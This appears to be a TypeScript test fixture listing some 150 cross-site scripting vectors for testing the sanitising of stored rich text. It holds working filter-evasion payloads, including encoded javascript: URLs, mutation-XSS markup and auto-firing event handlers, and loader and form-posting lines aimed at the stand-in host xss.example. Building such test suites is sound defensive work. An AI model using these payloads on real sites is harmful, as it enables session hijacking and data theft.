/**
 * Known XSS vectors, for any test that stores rich text and shows it again (email templates, the
 * newsletter, promotions). Each is written so that, if it ever ran, it would leave a trace a test
 * can read: script sets `window.__xss` (and opens an alert dialog), and the loading kind asks a
 * foreign host (`xss.example`, a reserved name that never resolves) for something.
 *
 * Drawn from public lists, rewritten to carry that payload: the OWASP XSS Filter Evasion Cheat
 * Sheet (encodings, broken tags, javascript: in every attribute that takes a URL, style and meta
 * tricks), PortSwigger's XSS cheat sheet (event handlers that fire without a click), the HTML5
 * Security Cheatsheet (html5sec.org: svg, math, form and base tricks) and the mutation-XSS cases of
 * DOMPurify's own tests (markup that changes meaning when parsed a second time).
 *
 *     import { XSS_VECTORS, XSS_HOST } from './xss-vectors.ts'
 */

/** The payload every script vector runs. */
export const XSS_PAYLOAD = 'window.__xss=1;alert(1)'
/** The foreign host the loading vectors ask; a request to it means a vector got through. */
export const XSS_HOST = 'xss.example'
const HOST = `https://${XSS_HOST}`

export interface XssVector {
  name: string
  html: string
}

const P = XSS_PAYLOAD
const decimal = (s: string): string => Array.from(s, (c) => `&#${c.charCodeAt(0)};`).join('')
const paddedDecimal = (s: string): string => Array.from(s, (c) => `&#${String(c.charCodeAt(0)).padStart(7, '0')}`).join('')
const hex = (s: string): string => Array.from(s, (c) => `&#x${c.charCodeAt(0).toString(16)};`).join('')
const charCodes = (s: string): string => Array.from(s, (c) => c.charCodeAt(0)).join(',')
const base64 = (s: string): string => Buffer.from(s, 'utf8').toString('base64')

const v = (name: string, html: string): XssVector => ({ name, html })

export const XSS_VECTORS: readonly XssVector[] = [
  // Script elements, plain and disguised.
  v('script', `<script>${P}</script>`),
  v('script, upper case', `<SCRIPT>${P}</SCRIPT>`),
  v('script src', `<SCRIPT SRC=${HOST}/xss.js></SCRIPT>`),
  v('script src, slash separator', `<SCRIPT/XSS SRC="${HOST}/xss.js"></SCRIPT>`),
  v('script src, quoted >', `<SCRIPT a=">" SRC="${HOST}/xss.js"></SCRIPT>`),
  v('script nested in script', `<scr<script>ipt>${P}</scr</script>ipt>`),
  v('extra open bracket', `<<SCRIPT>${P}//<</SCRIPT>`),
  v('script without closing tag', `<SCRIPT SRC=${HOST}/xss.js?< B >`),
  v('attribute breakout, double quote', `"><script>${P}</script>`),
  v('attribute breakout, single quote', `'><img src=x onerror=${P}>`),
  v('list breakout', `</p></li></ul><script>${P}</script>`),
  v('CDATA', `<![CDATA[<script>${P}</script>]]>`),
  v('comment breakout', `<!--<img src="--><img src=x onerror=${P}//">`),
  v('conditional comment', `<!--[if gte IE 4]><SCRIPT>${P}</SCRIPT><![endif]-->`),

  // Images and their error handlers.
  v('img onerror', `<img src=x onerror="${P}">`),
  v('img onerror, unclosed', `<img src=x onerror=${P}//`),
  v('img onerror, slashes for spaces', `<img/src="x"/onerror=${P}>`),
  v('img onerror, backtick', `<img src=\`x\`onerror=${P}>`),
  v('img quote confusion', `<IMG """><SCRIPT>${P}</SCRIPT>">`),
  v('img slash src', `<IMG SRC=/ onerror="${P}"></img>`),
  v('img onerror, entity-encoded handler', `<img src=x onerror="${decimal(P)}">`),
  v('img onerror, unicode escapes', `<img src=x onerror="\\u0077indow.__xss=1;\\u0061lert(1)">`),
  v('img onerror, hex escapes in eval', `<img src=x onerror="eval('\\x77indow.__xss=1;\\x61lert(1)')">`),
  v('img onerror, base64 eval', `<img src=x onerror="eval(atob('${base64(P)}'))">`),
  v('img onerror, fromCharCode', `<img src=x onerror="eval(String.fromCharCode(${charCodes(P)}))">`),
  v('img javascript src', `<IMG SRC="javascript:${P};">`),
  v('img javascript src, no quotes', `<IMG SRC=javascript:${P}>`),
  v('img javascript src, mixed case', `<IMG SRC=JaVaScRiPt:${P}>`),
  v('img src, decimal entities', `<IMG SRC=${decimal(`javascript:${P}`)}>`),
  v('img src, padded decimal entities', `<IMG SRC=${paddedDecimal(`javascript:${P}`)}>`),
  v('img src, hex entities', `<IMG SRC=${hex(`javascript:${P}`)}>`),
  v('img src, embedded tab', `<IMG SRC="jav\tascript:${P};">`),
  v('img src, encoded tab', `<IMG SRC="jav&#x09;ascript:${P};">`),
  v('img src, encoded newline', `<IMG SRC="jav&#x0A;ascript:${P};">`),
  v('img src, encoded carriage return', `<IMG SRC="jav&#x0D;ascript:${P};">`),
  v('img src, leading spaces and meta char', `<IMG SRC=" &#14;  javascript:${P};">`),
  v('img dynsrc', `<IMG DYNSRC="javascript:${P}">`),
  v('img lowsrc', `<IMG LOWSRC="javascript:${P}">`),
  v('img, remote tracker', `<img src="${HOST}/pixel.gif" width="1" height="1">`),
  v('img, protocol-relative', `<img src="//${XSS_HOST}/pixel.gif">`),
  v('img srcset', `<img srcset="${HOST}/a.png 1x" src="data:image/png;base64,iVBORw0KGgo=">`),
  v('picture source', `<picture><source srcset="${HOST}/p.png"><img src=x onerror=${P}></picture>`),
  v('img, svg data with script', `<img src="data:image/svg+xml;base64,${base64(`<svg xmlns="http://www.w3.org/2000/svg" onload="${P}"/>`)}">`),
  v('input image', `<input type="image" src="x" onerror="${P}">`),
  v('isindex image', `<isindex type=image src=1 onerror=${P}>`),

  // SVG.
  v('svg onload', `<svg onload=${P}>`),
  v('svg/onload', `<svg/onload=${P}>`),
  v('svg script', `<svg><script>${P}</script></svg>`),
  v('svg animate onbegin', `<svg><animate onbegin=${P} attributeName=x dur=1s>`),
  v('svg set onbegin', `<svg><set onbegin=${P} attributeName=x to=1>`),
  v('svg xlink javascript', `<svg><a xlink:href="javascript:${P}"><text x="20" y="20">XSS</text></a></svg>`),
  v('svg use remote', `<svg><use href="${HOST}/x.svg#a"/></svg>`),
  v('svg foreignObject', `<svg><foreignObject><img src=x onerror=${P}></foreignObject></svg>`),
  v('svg style mXSS', `<svg><style><img src=x onerror=${P}></style></svg>`),
  v('svg p style mXSS', `<svg></p><style><a id="</style><img src=1 onerror=${P}>">`),
  v('svg image href', `<svg><image href="${HOST}/i.png" /></svg>`),

  // MathML and mutation XSS.
  v('math mglyph style mXSS', `<math><mtext><table><mglyph><style><img src=x onerror=${P}>`),
  v('math form mXSS', `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${P}>`),
  v('math mi xlink', `<math><mi xlink:href="javascript:${P}">x</mi></math>`),
  v('math href', `<math href="javascript:${P}">CLICK</math>`),
  v('math maction', `<math><maction actiontype="statusline#${HOST}" xlink:href="javascript:${P}">CLICK</maction></math>`),
  v('noscript title mXSS', `<noscript><p title="</noscript><img src=x onerror=${P}>">`),
  v('xmp title', `<xmp><p title="</xmp><img src=x onerror=${P}>">`),
  v('noembed title', `<noembed><img title="</noembed><img src=x onerror=${P}>"></noembed>`),
  v('noframes title', `<noframes><img title="</noframes><img src=x onerror=${P}>"></noframes>`),
  v('textarea title', `<textarea><img title="</textarea><img src=x onerror=${P}>">`),
  v('iframe title', `<iframe><img title="</iframe><img src=x onerror=${P}>"></iframe>`),
  v('template', `<template><img src=x onerror=${P}></template>`),
  v('title element', `<title><img src=x onerror=${P}></title>`),

  // Frames, objects and embeds.
  v('iframe javascript src', `<iframe src="javascript:${P}"></iframe>`),
  v('iframe srcdoc', `<iframe srcdoc="<script>parent.__xss=1;alert(1)</script>"></iframe>`),
  v('iframe remote', `<iframe src=${HOST}/frame.html></iframe>`),
  v('iframe onmouseover', `<IFRAME SRC=# onmouseover="${P}"></IFRAME>`),
  v('iframe onload', `<iframe onload="${P}"></iframe>`),
  v('frameset', `<FRAMESET><FRAME SRC="javascript:${P};"></FRAMESET>`),
  v('object javascript data', `<object data="javascript:${P}"></object>`),
  v('object remote', `<object data="${HOST}/x.swf" type="application/x-shockwave-flash"></object>`),
  v('object scriptlet', `<object type="text/x-scriptlet" data="${HOST}/scriptlet.html"></object>`),
  v('embed javascript', `<embed src="javascript:${P}">`),
  v('embed remote', `<embed src=${HOST}/x.swf>`),

  // Links.
  v('a javascript', `<a href="javascript:${P}">click</a>`),
  v('a javascript, mixed case', `<a href="JaVaScRiPt:${P}">click</a>`),
  v('a javascript, first letter encoded', `<a href="&#106;avascript:${P}">click</a>`),
  v('a javascript, one letter encoded', `<a href="javas&#99;ript:${P}">click</a>`),
  v('a javascript, hex entities', `<a href="${hex('javascript:')}${P}">click</a>`),
  v('a javascript, encoded tab', `<a href="jav&#x09;ascript:${P}">click</a>`),
  v('a javascript, leading space', `<a href=" javascript:${P}">click</a>`),
  v('a javascript, leading control character', `<a href="&#1;javascript:${P}">click</a>`),
  v('a javascript, named colon', `<a href="javascript&colon;${P}">click</a>`),
  v('a javascript, fromCharCode', `<a href="javascript:eval(String.fromCharCode(${charCodes(P)}))">click</a>`),
  v('a data html', `<a href="data:text/html;base64,${base64(`<script>${P}</script>`)}">click</a>`),
  v('a data svg', `<a href="data:image/svg+xml,<svg onload=${P}>">click</a>`),
  v('a vbscript', `<a href="vbscript:msgbox(1)">click</a>`),
  v('a onclick', `<a href="#" onclick="${P}">click</a>`),
  v('a onmouseover', `<a href="${HOST}/" onmouseover="${P}">hover</a>`),
  v('a mailto with handler', `<a href="mailto:x@example.com" onmouseover=${P}>mail</a>`),
  v('a placeholder with handler', `<a href="{{unsubscribeUrl}}" onclick=${P}>unsubscribe</a>`),
  v('a full-page overlay', `<a href="${HOST}/" style="position:fixed;top:0;left:0;width:100%;height:100%">win</a>`),

  // Styles.
  v('style import', `<style>@import "${HOST}/xss.css";</style>`),
  v('style javascript url', `<style>body{background:url("javascript:${P}")}</style>`),
  v('style list image', `<STYLE>li {list-style-image: url("javascript:${P}");}</STYLE><UL><LI>XSS</br>`),
  v('style remote background', `<style>p{background:url(${HOST}/bg.png)}</style><p>styled</p>`),
  v('style attribute javascript url', `<div style="background-image: url(javascript:${P})">x</div>`),
  v('style attribute expression', `<div style="width: expression(${P});">x</div>`),
  v('style attribute escaped url', `<DIV STYLE="background-image:\\0075\\0072\\006C\\0028'\\006a\\0061\\0076\\0061\\0073\\0063\\0072\\0069\\0070\\0074\\003a\\0061\\006c\\0065\\0072\\0074\\0028\\0031\\0029'\\0029">x</DIV>`),
  v('style attribute remote background', `<p style="background:url(${HOST}/track.png)">tracked</p>`),
  v('style attribute behavior', `<xss style="behavior: url(${HOST}/xss.htc);">x</xss>`),
  v('style attribute overlay with handler', `<p onclick="${P}" style="position:fixed;inset:0">overlay</p>`),
  v('link stylesheet remote', `<LINK REL="stylesheet" HREF="${HOST}/xss.css">`),
  v('link stylesheet javascript', `<LINK REL="stylesheet" HREF="javascript:${P};">`),
  v('link import', `<link rel="import" href="${HOST}/x.html">`),
  v('link prefetch', `<link rel="prefetch" href="${HOST}/prefetch">`),

  // Document-level elements.
  v('meta refresh javascript', `<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:${P};">`),
  v('meta refresh data', `<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html;base64,${base64(`<script>${P}</script>`)}">`),
  v('meta refresh remote', `<META HTTP-EQUIV="refresh" CONTENT="0; URL=${HOST}/;URL=javascript:${P};">`),
  v('base javascript', `<base href="javascript:${P}//"><a href="x">relative</a>`),
  v('base remote', `<base href="${HOST}/"><img src="x.png">`),
  v('body onload', `<body onload=${P}>`),
  v('body background', `<BODY BACKGROUND="javascript:${P}">`),
  v('body onpageshow', `<body onpageshow=${P}>`),
  v('table background', `<table background="javascript:${P}"><tr><td>x</td></tr></table>`),
  v('td background remote', `<table><tr><td background="${HOST}/bg.png">x</td></tr></table>`),
  v('bgsound', `<bgsound src="javascript:${P}">`),
  v('br size entity', `<br size="&{${P}}">`),

  // Forms and focus.
  v('form action', `<form action="javascript:${P}"><input type="submit"></form>`),
  v('button formaction', `<form><button formaction="javascript:${P}">X</button></form>`),
  v('form remote action', `<form action="${HOST}/steal" method="post"><input name="code" value="123456"><button>Go</button></form>`),
  v('input autofocus', `<input onfocus=${P} autofocus>`),
  v('select autofocus', `<select onfocus=${P} autofocus></select>`),
  v('textarea autofocus', `<textarea onfocus=${P} autofocus></textarea>`),
  v('keygen autofocus', `<keygen onfocus=${P} autofocus>`),

  // Media and other events that fire by themselves.
  v('video source onerror', `<video><source onerror="${P}"></video>`),
  v('video onerror', `<video src=x onerror=${P}></video>`),
  v('audio onerror', `<audio src=x onerror=${P}></audio>`),
  v('video poster remote', `<video poster="${HOST}/poster.png"></video>`),
  v('details ontoggle', `<details open ontoggle=${P}>`),
  v('marquee onstart', `<marquee onstart=${P}>x</marquee>`),
  v('div onmouseover', `<div onmouseover="${P}">hover</div>`),
  v('p onclick with allowed tag', `<p onclick="${P}">allowed tag, bad attribute</p>`),
  v('strong onmouseover', `<strong onmouseover="${P}">bold</strong>`),
  v('blockquote cite javascript', `<blockquote cite="javascript:${P}">quote</blockquote>`),

  // DOM clobbering: the marker itself, named by markup.
  v('clobber by id', `<a id="__xss" href="https://wallet.example/">clobber</a>`),
  v('clobber by name', `<img name="__xss" src="data:image/png;base64,iVBORw0KGgo=">`),
  v('clobber form name', `<form name="__xss"></form>`),

  // Broken markup.
  v('broken img tag', `<IMG SRC=x onerror="${P}"`),
  v('broken attribute quote', `<img src="x" alt="a onerror=${P} b">`),
  v('half-open tag', `<img src=x onerror=${P} <p>after</p>`),
  v('null byte in tag name', `<scr\u0000ipt>${P}</scr\u0000ipt>`),
]
